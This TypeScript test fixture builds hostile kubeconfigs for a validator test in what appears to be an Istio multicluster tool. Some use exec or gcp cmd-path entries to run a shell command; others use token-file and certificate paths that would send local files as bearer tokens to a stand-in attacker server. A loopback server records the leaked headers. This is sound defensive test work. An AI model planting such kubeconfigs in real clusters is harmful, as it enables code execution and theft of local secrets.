/**
 * Kubeconfigs an attacker who may create a Secret in a primary's istio-system would put in a
 * remote secret: each would make a client run `touch <marker>` or read `<localFile>` and send
 * it as a bearer token to `server`, had the check let it through (each did once, issue 10).
 * Shared by the unit test of the check and the lab test that runs discovery on them.
 */
import { startTlsServer } from '../kube/tlsServer.js';

export interface HostileTarget {
  server: string;
  /** base64 PEM of the CA that `server`'s certificate chains to. */
  caData: string;
  /** Created by the command, if one ever runs. */
  marker: string;
  /** A local file whose content must never leave this machine. */
  localFile: string;
}

export interface HostileKubeconfig {
  name: string;
  kubeconfig: string;
  /** What the check must report. */
  code: string;
  field: string;
}

const head = (t: HostileTarget, cluster = 'evil') => `apiVersion: v1
kind: Config
clusters:
- name: ${cluster}
  cluster:
    server: ${t.server}
    certificate-authority-data: ${t.caData}
contexts:
- name: ${cluster}
  context: {cluster: ${cluster}, user: ${cluster}}
current-context: ${cluster}
`;

const exec = (t: HostileTarget) => `{apiVersion: client.authentication.k8s.io/v1beta1, command: /bin/sh, args: ["-c", "touch ${t.marker}"]}`;

/** The five of the issue first, then the rest of what the allow-list refuses. */
export function hostileKubeconfigs(t: HostileTarget): HostileKubeconfig[] {
  const user = (body: string) => `${head(t)}users:\n- name: evil\n  user:\n${body}`;
  return [
    { name: 'auth-provider oidc with config.exec', kubeconfig: user(`    auth-provider: {name: oidc, config: {exec: ${exec(t)}}}\n`), code: 'MF9005', field: 'users[evil].user.auth-provider.config.exec' },
    { name: 'two users of one name, exec first', kubeconfig: `${head(t)}users:\n- name: evil\n  user: {exec: ${exec(t)}}\n- name: evil\n  user: {token: harmless}\n`, code: 'MF9011', field: 'users[evil]' },
    { name: 'exec behind a << merge key', kubeconfig: user(`    <<: {exec: ${exec(t)}}\n    token: harmless\n`), code: 'MF9011', field: '' },
    { name: 'user.token-file', kubeconfig: user(`    token-file: ${t.localFile}\n`), code: 'MF9010', field: 'users[evil].user.token-file' },
    { name: 'auth-provider.config.tokenFile', kubeconfig: user(`    auth-provider: {name: oidc, config: {tokenFile: ${t.localFile}}}\n`), code: 'MF9010', field: 'users[evil].user.auth-provider.config.tokenFile' },
    { name: 'user.exec', kubeconfig: user(`    exec: ${exec(t)}\n`), code: 'MF9005', field: 'users[evil].user.exec' },
    { name: 'user.tokenFile', kubeconfig: user(`    tokenFile: ${t.localFile}\n`), code: 'MF9010', field: 'users[evil].user.tokenFile' },
    { name: 'gcp auth provider with cmd-path', kubeconfig: user(`    auth-provider: {name: gcp, config: {cmd-path: /bin/sh, cmd-args: "-c 'touch ${t.marker}'"}}\n`), code: 'MF9005', field: 'users[evil].user.auth-provider.config.cmd-path' },
    { name: 'client certificate and key paths', kubeconfig: user(`    client-certificate: ${t.localFile}\n    client-key: ${t.localFile}\n`), code: 'MF9010', field: 'users[evil].user.client-certificate' },
    { name: 'certificate-authority path', kubeconfig: head(t).replace('    certificate-authority-data:', `    certificate-authority: ${t.localFile}\n    certificate-authority-data:`) + 'users:\n- name: evil\n  user: {token: harmless}\n', code: 'MF9010', field: 'clusters[evil].cluster.certificate-authority' },
    { name: 'user name and password', kubeconfig: user('    username: admin\n    password: hunter2\n'), code: 'MF9012', field: 'users[evil].user.username' },
    { name: 'impersonation', kubeconfig: user('    token: harmless\n    as: system:admin\n'), code: 'MF9012', field: 'users[evil].user.as' },
    { name: 'proxy-url', kubeconfig: head(t).replace('    server:', '    proxy-url: http://127.0.0.1:1\n    server:') + 'users:\n- name: evil\n  user: {token: harmless}\n', code: 'MF9012', field: 'clusters[evil].cluster.proxy-url' },
    { name: 'user:password in the server URL', kubeconfig: head(t).replace('https://', 'https://admin:hunter2@') + 'users:\n- name: evil\n  user: {token: harmless}\n', code: 'MF9012', field: 'clusters[evil].cluster.server' },
    { name: 'insecure-skip-tls-verify', kubeconfig: head(t).replace('    certificate-authority-data: ' + t.caData + '\n', '    insecure-skip-tls-verify: true\n') + 'users:\n- name: evil\n  user: {token: harmless}\n', code: 'MF9012', field: 'clusters[evil].cluster.insecure-skip-tls-verify' },
    { name: 'a key repeated in one mapping', kubeconfig: user(`    token: harmless\n    token: harmless\n`), code: 'MF9011', field: '' },
    { name: 'two clusters of one name', kubeconfig: head(t).replace('contexts:', `- name: evil\n  cluster: {server: ${t.server}}\ncontexts:`) + 'users:\n- name: evil\n  user: {token: harmless}\n', code: 'MF9011', field: 'clusters[evil]' },
  ];
}

/**
 * A loopback HTTPS server standing for the attacker's: it records the Authorization header
 * of every request (`(none)` when absent) and answers 403, so nothing syncs from it.
 */
export interface RecordingServer {
  url: string;
  caData: string;
  authorizations: string[];
  close(): Promise<void>;
}

export async function startRecordingServer(ip: string, dir: string): Promise<RecordingServer> {
  const authorizations: string[] = [];
  const tls = await startTlsServer(ip, dir, (req, res) => {
    authorizations.push(req.headers.authorization ?? '(none)');
    res.writeHead(403, { 'content-type': 'application/json' }).end('{"kind":"Status","status":"Failure","reason":"Forbidden","code":403}');
  });
  return { url: tls.url, caData: tls.caData, authorizations, close: tls.close };
}
